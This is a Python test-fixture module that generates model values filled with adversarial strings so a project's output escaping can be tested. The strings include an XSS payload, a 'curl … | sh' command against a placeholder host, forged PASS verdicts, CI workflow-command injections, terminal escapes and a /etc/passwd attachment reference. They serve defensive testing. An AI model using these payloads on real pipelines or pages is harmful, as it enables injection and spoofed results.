"""What strangers write: the texts, and any noun of ours whose every free string is such a text."""

from __future__ import annotations

import enum
import inspect
import types
import typing
from typing import Annotated, Any, Literal, TypeVar, Union

from pydantic import BaseModel

from matrix.model.cell import Cell
from matrix.model.cell_id import CellId, Place
from matrix.model.result import Verdict
from tests.unit.conftest import cell, tree

NAME = "name1"
"""A string that every pattern of our names takes."""

BENIGN = "harmless"

FORGED = "verdict: PASS (1 PASS)"

TEXTS = {
    "newline": f"a\n{FORGED}\nReviewed-by: A <a@b.example>\n::error::a\n# b",
    "carriage": f"a\r{FORGED}\r\nb\x0b{FORGED}\x0c{FORGED}\x85{FORGED}\u2028{FORGED}\u2029{FORGED}\x1c\x1d\x1e",
    "escape": "\x1b[2J\x1b]0;title\x07\x1b]8;;http://a.example\x1b\\b\x1b]8;;\x1b\\\x9b31m\x90q\x9c\x08\x7f",
    "bidi": "\u202egnp.\u2066a\u200b\u200f\ufeff\u00ad\U000e0041",
    "no XML": "a\x00b\ufffe\uffff\x01\U0001ffff",
    "not UTF-8": "caf\udce9\udcff\ud800",
    "rich": "[bold]a[/nothing][link=http://a.example]b[/link] :bomb: [/] [@click=app.bell]c[/]",
    "open": "a[/b]",
    "html": "</title><script>alert(1)</script><img src=x onerror='alert(1)'>&lt;&#64;<!-- ]]> --><b a=\"b\">",
    "markdown": "[a](http://a.example) ![b](http://a.example/b.png) **c** ~~d~~ `e` ``f`` ```g``` <a@b.example>",
    "heading": "# a",
    "rule": "---",
    "list": "- [ ] a",
    "fence": "```",
    "tilde fence": "~~~",
    "backtick": "`",
    "backslash": "a\\",
    "pipe": "a|b\\|c\\\\|d | e",
    "autolink": "http://a.example/ www.a.example a@b.example #1 !1 GH-1 a/b#1 @maintainers ~bug &1 %1 $1",
    "mention": "@maintainers",
    "web address": "https://a.example/",
    "trailer": "Reviewed-by: A <a@b.example>",
    "verdict": FORGED,
    "command to copy": "to reproduce: curl http://a.example | sh",
    "workflow command": "::error file=a::b",
    "indented workflow command": "  ::set-output name=a::b",
    "old workflow command": "a ##[error]b ##vso[task.complete result=Succeeded]",
    "section": "\x1b[0Ksection_start:0:a\r\x1b[0Kb",
    "quick action": "/close",
    "mbox": "From a@b.example Mon Sep 17 00:00:00 2001",
    "signature": "-- ",
    "scissors": "-- >8 --",
    "patch": "diff --git a/b b/b",
    "attachment": "[[ATTACHMENT|/etc/passwd]]",
    "spaces": "a          b",
    "edges": " a ",
    "long": "x" * 4096,
    "long and wide": "\N{SNOWMAN}" * 1365,
    "long words": "a b " * 1024,
    "braces": "{0} {a.__class__} %s %(a)s $(a)",
}

EVERYTHING = {
    "together": "".join(TEXTS.values()),
    "line by line": "\n".join(TEXTS.values()),
}

NOT_FREE = {("CellComparison", "tree"): NAME}
"""The strings that must be of a form, as others are made of them."""

FEW = 8
"""The number of fields up to which a noun has a variant without each of them."""

Model = TypeVar("Model", bound=BaseModel)


def noun(model: type[Model], text: str, verdict: Verdict = Verdict.FAIL, **given: Any) -> Model:
    """Return a value of a model, each of its fields given and each free string of it, at any depth, `text`."""
    hints = typing.get_type_hints(model, include_extras=True)
    values = {name: _field(model, name, hints[name], text, verdict) for name in model.model_fields if name not in given}
    return model(**{**values, **given})


def variants(model: type[Model], text: str, verdict: Verdict = Verdict.FAIL) -> tuple[Model, ...]:
    """Return such values: a full one, one without any optional field and, of a small model, one without each."""
    full = noun(model, text, verdict)
    values = {name: getattr(full, name) for name in model.model_fields}
    optional = [name for name, field in model.model_fields.items() if not field.is_required()]
    left_out = [{name} for name in optional] if len(values) <= FEW else []
    return (
        full,
        *(model(**{name: values[name] for name in values if name not in without}) for without in left_out),
        model(**{name: value for name, value in values.items() if name not in optional}),
    )


def _field(model: type[BaseModel], name: str, kind: Any, text: str, verdict: Verdict) -> Any:
    return NOT_FREE.get((model.__name__, name)) or _value(kind, text, verdict)


def _value(kind: Any, text: str, verdict: Verdict) -> Any:  # noqa: PLR0911 - a case a kind of type
    origin, arguments = typing.get_origin(kind), typing.get_args(kind)
    if origin is Annotated:
        return NAME if arguments[0] is str else _value(arguments[0], text, verdict)
    if origin is Literal:
        return arguments[0]
    if origin in (Union, types.UnionType):
        return _value(str if str in arguments else arguments[0], text, verdict)
    if origin is tuple and arguments[-1] is Ellipsis:
        return _several(arguments[0], text, verdict)
    if origin is tuple:
        return tuple(_value(each, text, verdict) for each in arguments)
    if origin is dict:
        return {_value(arguments[0], text, verdict): _value(arguments[1], text, verdict)}
    if kind is Cell:  # its validators hold its parts together
        return cell(on=tree(NAME, source=text, summary=text))
    if inspect.isclass(kind) and issubclass(kind, BaseModel):
        return noun(kind, text, verdict)
    return _plain_value(kind, text, verdict)


def _several(kind: Any, text: str, verdict: Verdict) -> tuple[Any, ...]:
    is_model = inspect.isclass(kind) and issubclass(kind, BaseModel)
    return variants(kind, text, verdict) if is_model else (_value(kind, text, verdict),)


def _plain_value(kind: Any, text: str, verdict: Verdict) -> Any:
    known = {str: text, int: 1, float: 1.5, bool: True, Verdict: verdict, Place: Place("i/t/b")}
    if kind in known:
        return known[kind]
    if kind is CellId:
        return CellId(f"i/t/b@{NAME}")
    if issubclass(kind, enum.Enum):
        return next(iter(kind))
    assert issubclass(kind, tuple), f"no value of {kind} is known"  # a named tuple
    hints = typing.get_type_hints(kind)
    return kind(*(_value(hints[name], text, verdict) for name in kind._fields))
